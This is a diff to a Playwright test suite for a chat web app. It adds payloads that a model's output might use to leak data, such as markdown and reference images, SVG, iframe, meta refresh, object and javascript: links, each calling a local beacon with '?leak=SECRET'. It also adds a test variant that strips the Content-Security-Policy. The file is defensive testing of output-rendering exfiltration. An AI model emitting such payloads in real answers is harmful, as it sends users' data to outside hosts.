@@ -41,10 +41,25 @@ def _payload(url: str) -> list[str]:
             f'<div style="background:url({url}/css?leak=SECRET)">styled</div> ',
             f'<link rel="stylesheet" href="{url}/link?leak=SECRET"> ',
             f"![ref][r]\n\n[r]: {url}/ref?leak=SECRET\n\n",
+            # the CommonMark forms the old regexes missed: a shortcut reference, brackets in the alt, two-line alt
+            f"![s]\n\n[s]: {url}/shortcut?leak=SECRET\n\n",
+            f"![a [b] c]({url}/brackets?leak=SECRET) and ![two\nlines]({url}/twolines?leak=SECRET)\n\n",
+            f'<svg><image href="{url}/svg?leak=SECRET"/></svg> <iframe src="{url}/frame?leak=SECRET"></iframe> ',
+            f'<meta http-equiv="refresh" content="0;url={url}/meta?leak=SECRET"> <video poster="{url}/poster?leak=SECRET">'
+            f'</video> <object data="{url}/object?leak=SECRET"></object> [js](javascript:fetch("{url}/js")) ',
             f"and a plain link [docs]({url}/clicked-only) that is not followed by itself."]
 
 
-def test_nothing_a_model_writes_makes_the_browser_fetch_anything(fake_server, tmp_path, beacon):
+def _without_csp(route):
+    """The page as a proxy that drops headers would serve it: no Content-Security-Policy."""
+    response = route.fetch()
+    headers = {k: v for k, v in response.headers.items() if k.lower() != "content-security-policy"}
+    route.fulfill(response=response, headers=headers)
+
+
+@pytest.mark.parametrize("csp", ["on", "off"])
+def test_nothing_a_model_writes_makes_the_browser_fetch_anything(fake_server, tmp_path, beacon, csp):
+    """With the policy switched off too: the renderer is the first wall on its own."""
     require_chromium()
     from playwright.sync_api import sync_playwright
 
@@ -55,12 +70,16 @@ def test_nothing_a_model_writes_makes_the_browser_fetch_anything(fake_server, tm
         # every page says where it may load from
         with urllib.request.urlopen(demo.url, timeout=10) as page:
             policy = page.headers["Content-Security-Policy"]
-        assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
+        assert "img-src data: blob:" in policy and "connect-src 'self'" in policy
         with sync_playwright() as p:
             browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
             page = browser.new_page()
+            if csp == "off":  # the page itself, not the streams it opens
+                page.route(lambda url: url.rstrip("/") == demo.url.rstrip("/"), _without_csp)
             page.goto(demo.url)
             page.wait_for_selector("#prompt textarea", timeout=60_000)
+            if csp == "off":
+                assert page.evaluate("document.querySelector('meta[http-equiv]')") is None
             # Chat
             page.fill("#prompt textarea", "show me the chart")
             page.keyboard.press("Enter")
@@ -75,6 +94,11 @@ def test_nothing_a_model_writes_makes_the_browser_fetch_anything(fake_server, tm
                                    "{innerText: ''}).innerText.includes('not followed by itself'))", timeout=30_000)
             page.wait_for_timeout(1500)  # time for any image, stylesheet or background to be requested
             assert page.locator("img[src*='leak']").count() == 0
+            for area in ("#chatbot", "#compare-answer-0", "#compare-answer-1"):
+                made = page.eval_on_selector_all(f"{area} img, {area} svg image, {area} iframe, {area} video, "
+                                                 f"{area} object, {area} meta, {area} a[href^='javascript']",
+                                                 "els => els.map(e => e.outerHTML)")
+                assert made == [], (area, made)
             browser.close()
     finally:
         demo.stop()
